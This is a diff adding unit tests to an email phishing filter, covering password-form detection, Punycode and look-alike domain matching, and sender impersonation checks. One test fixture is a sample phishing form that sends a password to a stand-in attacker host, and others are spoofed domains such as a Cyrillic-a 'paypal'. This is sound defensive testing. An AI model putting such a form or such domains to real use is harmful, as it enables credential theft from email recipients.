@@ -4,6 +4,7 @@
 #include <algorithm>
 
 #include "filter/features.hpp"
+#include "filter/lookalike.hpp"
 #include "filter/verdict.hpp"
 #include "message/header.hpp"
 #include "message/mime.hpp"
@@ -35,7 +36,9 @@ TEST(Verdict, ThresholdsAndAuthSignals) {
   auto v = judge("Subject: x\r\n\r\nx\r\n", in);
   EXPECT_EQ(v.summary(), "SPF_FAIL=1.00 DMARC_FAIL=1.00 NO_RDNS=0.50");
   EXPECT_DOUBLE_EQ(v.score, 2.5);
-  EXPECT_EQ(judge("Subject: x\r\n\r\nx\r\n", {nullptr, nullptr, &a, {}, {}, {}}).action, Action::tag);  // defaults
+  Inputs defaults;
+  defaults.auth = &a;
+  EXPECT_EQ(judge("Subject: x\r\n\r\nx\r\n", defaults).action, Action::tag);
   EXPECT_EQ(v.action, Action::junk);
   in.thresholds = {1, 5, 10};
   EXPECT_EQ(judge("Subject: x\r\n\r\nx\r\n", in).action, Action::tag);
@@ -106,6 +109,76 @@ TEST(Verdict, PhishingGetsASubjectTagAndABannerAndKeepsTheMessage) {
   EXPECT_EQ(*message::header_value(bare.headers, "Subject"), "[SUSPECTED PHISHING]");
   ASSERT_EQ(bare.children.size(), 2u);
   EXPECT_EQ(bare.children[1].type + "/" + bare.children[1].subtype, "text/plain");
+}
+
+TEST(Verdict, FormsAskingForPasswords) {
+  const std::string h = "Subject: verify your account\r\nContent-Type: text/html\r\n\r\n";
+  auto v = judge(h + "<form method=post action=\"https://collect.evil.example/p.php\">User <input name=u>"
+                     "Password <INPUT TYPE=\"password\" name=p><input type=submit></form>\r\n", {});
+  ASSERT_EQ(v.summary(), "CREDENTIAL_FORM=3.00");
+  EXPECT_EQ(v.signals[0].why, "an HTML form asks for a password and sends it to collect.evil.example");
+  EXPECT_EQ(v.action, Action::junk);
+  // A form without a password field, or a word "password" outside an input: no signal.
+  EXPECT_EQ(judge(h + "<form action=\"https://survey.example/\"><input name=q></form>\r\n", {}).summary(), "");
+  EXPECT_EQ(judge(h + "<form action=x><p>Forgot your password? <input name=email></p></form>\r\n", {}).summary(), "");
+}
+
+TEST(Lookalike, PunycodeAndSkeletons) {
+  // RFC 3492 §7.1 (B): Chinese (simplified), and a label with a Cyrillic "а".
+  EXPECT_EQ(*punycode_decode("ihqwcrb4cv8a8dqg056pqjye"),
+            U"\u4ed6\u4eec\u4e3a\u4ec0\u4e48\u4e0d\u8bf4\u4e2d\u6587");
+  EXPECT_EQ(*punycode_decode("bcher-kva"), U"b\u00fccher");
+  EXPECT_FALSE(punycode_decode("99999999999a"));
+  EXPECT_FALSE(punycode_decode("a\xc3\xa4-x"));
+  EXPECT_EQ(skeleton("xn--pypal-4ve.example"), "paypal.example");  // p\u0430ypal: Cyrillic a
+  EXPECT_EQ(skeleton("paypa1.example"), skeleton("paypal.example"));
+  EXPECT_EQ(skeleton("rnicrosoft.example"), skeleton("microsoft.example"));
+  EXPECT_NE(skeleton("xn--ihqwcrb4cv8a8dqg056pqjye.example"), skeleton("xn--fiqs8s.example"));
+}
+
+TEST(Lookalike, ImitatedKnownDomains) {
+  const std::vector<std::string> known = {"paypal.example", "partner.example.org", "bank.co.example", "ab.example"};
+  EXPECT_EQ(imitated("xn--pypal-4ve.example", known), "paypal.example");
+  EXPECT_EQ(imitated("paypa1.example", known), "paypal.example");
+  EXPECT_EQ(imitated("partnre.example.org", known), "partner.example.org");  // swapped letters
+  EXPECT_EQ(imitated("partners.example.org", known), "partner.example.org");  // one added
+  // Not look-alikes: the domain itself, short names one letter apart, another suffix,
+  // unrelated names.
+  EXPECT_FALSE(imitated("paypal.example", known));
+  EXPECT_FALSE(imitated("ac.example", known));
+  EXPECT_FALSE(imitated("partner.example.net", known));
+  EXPECT_FALSE(imitated("shop.example", known));
+}
+
+TEST(Verdict, ImpersonationOfWhatTheRecipientKnows) {
+  dmarc::OrgDomains orgs;
+  Inputs in;
+  in.orgs = &orgs;
+  in.own_domains = {"ourcompany.example"};
+  in.known_domains = {"partner.example"};
+  auto with_from = [&](const std::string& from) { return judge("From: " + from + "\r\nSubject: invoice\r\n\r\nPay now.\r\n", in); };
+  auto v = with_from("Accounts <billing@partnre.example>");
+  ASSERT_EQ(v.summary(), "LOOKALIKE_DOMAIN=3.50");
+  EXPECT_EQ(v.signals[0].why, "the sender's domain partnre.example looks like partner.example, a domain the recipient writes to");
+  v = with_from("CEO <ceo@mail.0urcompany.example>");
+  ASSERT_EQ(v.summary(), "LOOKALIKE_DOMAIN=3.50");
+  EXPECT_NE(v.signals[0].why.find("the recipient's own domain"), std::string::npos);
+  EXPECT_EQ(with_from("Accounts <billing@partner.example>").summary(), "");
+  // The organisation's name from outside.
+  v = with_from("OurCompany IT Desk <helpdesk@freemail.example>");
+  ASSERT_EQ(v.summary(), "OWN_NAME_SPOOF=2.00");
+  EXPECT_EQ(with_from("OurCompanyX <a@freemail.example>").summary(), "");  // not the word
+  // A contact's name from an address that is not theirs.
+  in.namesakes = {"alice@partner.example"};
+  v = with_from("Alice Smith <alice.smith@freemail.example>");
+  ASSERT_EQ(v.summary(), "CONTACT_IMPERSONATION=2.50");
+  EXPECT_EQ(v.signals[0].why, "the sender uses the name of a contact, alice@partner.example, from another address "
+                              "(alice.smith@freemail.example)");
+  EXPECT_TRUE(is_phishing_signal(v.signals[0]));
+  // Reputation: an authenticated author at a domain the recipient writes to.
+  in.namesakes.clear();
+  in.authenticated_domain = "mail.partner.example";
+  EXPECT_EQ(with_from("Bob <bob@mail.partner.example>").summary(), "KNOWN_DOMAIN=-1.50");
 }
 
 TEST(Verdict, DisplayNamesThatShowAnotherDomain) {
